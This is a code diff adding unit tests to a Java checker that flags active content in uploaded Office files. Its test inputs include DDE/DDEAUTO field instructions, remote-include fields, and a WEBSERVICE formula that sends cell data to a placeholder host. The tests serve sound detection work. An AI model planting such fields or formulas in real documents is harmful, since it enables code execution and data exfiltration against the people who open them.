@@ -22,6 +22,7 @@ import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
 import org.apache.poi.xwpf.usermodel.XWPFDocument;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import uk.gov.haringey.actionplan.ProcessorTime;
 import uk.gov.haringey.actionplan.service.Violation;
@@ -99,6 +100,32 @@ class ActiveEvidenceTests {
 		String field = "<w:document xmlns:w=\"w\"><w:instrText> DD</w:instrText><w:t/><w:instrText>EAUTO c:\\x</w:instrText></w:document>";
 		assertThat(codes("plan.docx", word(Map.of("word/document.xml", field)))).containsExactly("document.program");
 		assertThat(codes("plan.docx", word(Map.of("word/document.xml", field.replace("DD", "PA"))))).isEmpty();
+	}
+
+	@ParameterizedTest
+	@CsvSource({ "' DDE Excel a.xls R1C1 ', document.program", "' ddeauto c:\\x ', document.program",
+			"' INCLUDEPICTURE \"http://example.org/x.png\" ', document.outside",
+			"' IncludeText \"\\\\host\\x.docx\" ', document.outside", "' LINK Excel.Sheet.8 x ', document.outside",
+			"' HYPERLINK \"https://example.org/added-value/hidden\" ', ''", "' TOC \\o ', ''", "' PAGE ', ''" })
+	void aFieldIsJudgedByItsFirstWord(String instruction, String code) throws IOException {
+		String expected = code.isEmpty() ? "[]" : "[" + code + "]";
+		String field = "<w:document xmlns:w=\"w\"><w:fldChar w:fldCharType=\"begin\"/><w:instrText> PAGE </w:instrText>"
+				+ "<w:fldChar w:fldCharType=\"end\"/><w:fldChar w:fldCharType=\"begin\"/><w:instrText>" + instruction
+				+ "</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:document>";
+		String simple = "<w:document xmlns:w=\"w\"><w:fldSimple w:instr=\"" + instruction.replace("\"", "&quot;")
+				+ "\"/></w:document>";
+		assertThat(codes("plan.docx", word(Map.of("word/document.xml", field)))).hasToString(expected);
+		assertThat(codes("plan.docx", word(Map.of("word/document.xml", simple)))).hasToString(expected);
+	}
+
+	@Test
+	void aFormulaThatFetchesSomethingIsRefused() throws IOException {
+		String sheet = "<worksheet><sheetData><row><c><f>%s</f></c></row></sheetData></worksheet>";
+		for (String formula : List.of("_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)", "_xlfn.IMAGE(\"http://x\")")) {
+			assertThat(codes("plan.docx", word(Map.of("xl/worksheets/sheet1.xml", sheet.formatted(formula)))))
+				.containsExactly("document.outside");
+		}
+		assertThat(codes("plan.docx", word(Map.of("xl/worksheets/sheet1.xml", sheet.formatted("SUM(A1:A2)"))))).isEmpty();
 	}
 
 	@ParameterizedTest
